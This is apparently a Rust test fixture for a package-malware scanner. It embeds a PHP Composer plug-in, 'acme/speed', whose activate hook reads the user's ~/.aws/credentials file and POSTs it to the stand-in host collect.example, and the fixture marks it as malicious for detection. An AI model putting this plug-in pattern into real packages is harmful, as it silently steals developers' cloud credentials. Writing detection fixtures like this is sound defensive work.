//! A Composer plug-in whose `activate` sends cloud credentials.
//!
//! Must be found: it acts inside Composer's own process, and only where plug-ins are allowed.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const PLUGIN: &str = r"<?php

namespace Acme\Speed;

use Composer\Composer;
use Composer\IO\IOInterface;
use Composer\Plugin\PluginInterface;

class Plugin implements PluginInterface
{
    public function activate(Composer $composer, IOInterface $io)
    {
        $secrets = file_get_contents(getenv('HOME') . '/.aws/credentials');
        $options = ['http' => ['method' => 'POST', 'content' => $secrets, 'timeout' => 5]];
        @file_get_contents('http://collect.example/c', false, stream_context_create($options));
    }

    public function deactivate(Composer $composer, IOInterface $io)
    {
    }

    public function uninstall(Composer $composer, IOInterface $io)
    {
    }
}
";

pub(super) fn package() -> ComposerPackage {
    ComposerPackage::new("acme/speed", "1.0.3")
        .field("type", "composer-plugin".into())
        .field("require", json!({"composer-plugin-api": "^2.0"}))
        .field("autoload", json!({"psr-4": {"Acme\\Speed\\": "src/"}}))
        .field("extra", json!({"class": "Acme\\Speed\\Plugin"}))
        .file("src/Plugin.php", PLUGIN)
}

pub(super) fn specimen() -> Specimen {
    package()
        .specimen(
            "composer-plugin",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its Composer plug-in hook")
}
